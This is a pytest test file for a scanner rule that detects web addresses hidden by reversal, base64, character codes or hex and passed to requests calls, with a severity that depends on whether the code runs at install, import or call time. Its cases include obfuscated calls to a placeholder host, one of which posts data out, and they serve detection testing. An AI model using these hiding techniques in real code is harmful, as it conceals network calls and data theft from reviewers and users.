"""STR-003: addresses that are put together."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import base64

import pytest

from assay.rules.str_003_hidden_address import RULE
from tests.behaviour import at, findings, worst

PICTURE = base64.b64encode(b"<svg xmlns='http://example.invalid/svg'>" + b"<path/>" * 40 + b"</svg>").decode()
FONT = base64.b64encode(b"\0\1\0\0" + b"glyf" * 60 + b"http://example.invalid").decode()
LONG = base64.b64encode(b"http://example.invalid/" + b"a/" * 120).decode()
HEAD = "import base64, builtins, importlib, os, requests, subprocess\n"

CASES = [
    ("requests.get('a/dilavni.elpmaxe//:ptth'[::-1])", "install", "high"),
    ("requests.get('a/dilavni.elpmaxe//:ptth'[::-1])", "startup", "high"),
    ("requests.get('a/dilavni.elpmaxe//:ptth'[::-1])", "import", "high"),
    ("requests.get('a/dilavni.elpmaxe//:ptth'[::-1])", "call", "medium"),
    ("requests.get('a/dilavni.elpmaxe//:ptth'[::-1])", "test", "info"),
    ("url = base64.b64decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC9h').decode()\nrequests.post(url, data=given)", "install", "high"),
    ("url = ''.join(chr(n) for n in [104, 116, 116, 112, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100, 47, 97])\nrequests.get(url)", "import", "high"),
    ("host = bytes.fromhex('687474703a2f2f6578616d706c652e696e76616c6964').decode()\nrequests.get(host + '/a')", "import", "high"),
    ("url = 'a/dilavni.elpmaxe//:ptth'[::-1]", "import", "medium"),
    ("url = 'a/dilavni.elpmaxe//:ptth'[::-1]", "call", "info"),
    (f"picture = base64.b64decode('{PICTURE}')", "import", "info"),
    (f"picture = base64.b64decode('{FONT}')\nopen(picture)", "call", "info"),
    (f"address = base64.b64decode('{LONG}').decode()\nrequests.get(address)", "call", "medium"),
    ("requests.get('ht' + 'tp://example.invalid/a')", "import", "info"),
    ("requests.get('%s://%s' % ('http', 'example.invalid'))", "import", "info"),
    ("host = 'example.invalid'\nrequests.get(f'http://{host}/a')", "import", "info"),
]  # fmt: skip

NEAR_MISSES = [
    "requests.get('http://example.invalid/' + given)",
    "requests.get(f'http://example.invalid/{given}')",
    "url = 'http://example.invalid'.rstrip('/')",
    "requests.get(given)",
    "'/'.join(['http://example.invalid', given])",
]


@pytest.mark.parametrize(("source", "trigger", "severity"), CASES)
def test_how_bad_it_is(source: str, trigger: str, severity: str) -> None:
    assert worst(RULE, *at(trigger, HEAD + source + "\n")) == severity


@pytest.mark.parametrize("source", NEAR_MISSES)
def test_near_misses(source: str) -> None:
    assert worst(RULE, *at("import", HEAD + source + "\n")) == "none"


def test_the_evidence_names_the_text_and_how_it_was_hidden() -> None:
    (found,) = findings(RULE, *at("import", HEAD + "requests.get('a/dilavni.elpmaxe//:ptth'[::-1])" + "\n"))
    assert found.evidence == ("http://example.invalid, given to requests.get", "hidden by reverse")
